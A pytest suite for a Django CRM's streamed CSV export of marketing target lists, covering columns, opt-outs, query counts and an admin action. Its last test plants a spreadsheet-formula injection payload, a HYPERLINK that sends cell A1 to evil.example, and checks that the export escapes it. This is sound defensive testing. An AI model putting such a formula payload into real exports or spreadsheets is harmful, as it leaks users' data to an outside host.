"""CSV export of a target list: streamed, names resolved per chunk, one query per type."""

import csv
import io

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext

from targets.export import member_rows
from tests.factories import make_account, make_contact, make_lead, make_target_list, make_user

pytestmark = pytest.mark.django_db


def read_csv(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_export_lists_address_name_type_and_opted_out(admin_client):
    contact = make_contact(email="ada@example.com", first_name="Ada", last_name="Lovelace")
    lead = make_lead(email="lead@example.com", first_name="", last_name="Lead")
    account = make_account(email="acme@example.com", name="Acme, Inc.")
    user = make_user(email="staff@example.com", first_name="Sam", last_name="Staff")
    no_address = make_contact(email=None, first_name="No", last_name="Address")
    target_list = make_target_list(contact, lead, account, user, no_address, name="Fair 2025")
    target_list.members.filter(object_id=lead.pk, content_type__model="lead").update(opted_out=True)

    response = admin_client.get(f"/admin/targets/targetlist/{target_list.pk}/export/")
    assert response["Content-Disposition"] == 'attachment; filename="fair-2025.csv"'
    rows = read_csv(response)
    assert rows[0] == ["address", "name", "type", "opted_out"]
    assert sorted(rows[1:]) == sorted(
        [
            ["ada@example.com", "Ada Lovelace", "Contact", "no"],
            ["lead@example.com", "Lead", "Lead", "yes"],
            ["acme@example.com", "Acme, Inc.", "Account", "no"],
            ["staff@example.com", "Sam Staff", "User", "no"],
            ["", "No Address", "Contact", "no"],
        ]
    )


def test_a_deleted_record_keeps_its_row():
    contact = make_contact(email="gone@example.com")
    target_list = make_target_list(contact)
    contact.delete()
    assert list(member_rows(target_list)) == [["", "", "Contact", "no"]]


def test_names_are_read_once_per_type_per_chunk():
    records = [make_contact() for _ in range(6)] + [make_lead() for _ in range(4)]
    target_list = make_target_list(*records)
    with CaptureQueriesContext(connection) as queries:
        rows = list(member_rows(target_list, chunk_size=5))
    assert len(rows) == 10
    record_queries = [
        q["sql"] for q in queries if "targets_contact" in q["sql"] or "targets_lead" in q["sql"]
    ]
    # chunk 1: 5 contacts; chunk 2: 1 contact + 4 leads -> 3 record queries in all
    assert len(record_queries) == 3


def test_export_streams_through_a_server_side_cursor_on_postgresql(db):
    from tests.services import require_postgres

    require_postgres()
    target_list = make_target_list(*[make_contact() for _ in range(3)])
    rows = member_rows(target_list, chunk_size=2)
    assert next(rows)[2] == "Contact"
    with connection.cursor() as cursor:  # mid-export, the members are read by a named cursor
        cursor.execute("SELECT name FROM pg_cursors WHERE name LIKE '_django_curs_%%'")
        assert cursor.fetchall()
    assert len(list(rows)) == 2


def test_the_admin_action_exports_one_list(admin_client):
    target_list = make_target_list(make_contact(email="x@example.com"))
    response = admin_client.post(
        "/admin/targets/targetlist/",
        {"action": "export_csv", "_selected_action": [target_list.pk], "index": "0"},
    )
    assert read_csv(response)[1][0] == "x@example.com"
    two = admin_client.post(
        "/admin/targets/targetlist/",
        {
            "action": "export_csv",
            "_selected_action": [target_list.pk, make_target_list().pk],
            "index": "0",
        },
        follow=True,
    )
    assert "Export one list at a time." in two.content.decode()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_cannot_become_spreadsheet_formulas(admin_client, start):
    """A record named by whoever filled a web form must not run in the marketer's spreadsheet."""
    name = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    account = make_account(email="acme@example.com", name=name)
    target_list = make_target_list(account, name="Formulas")
    rows = read_csv(admin_client.get(f"/admin/targets/targetlist/{target_list.pk}/export/"))
    assert rows[1] == ["acme@example.com", "'" + name, "Account", "no"]
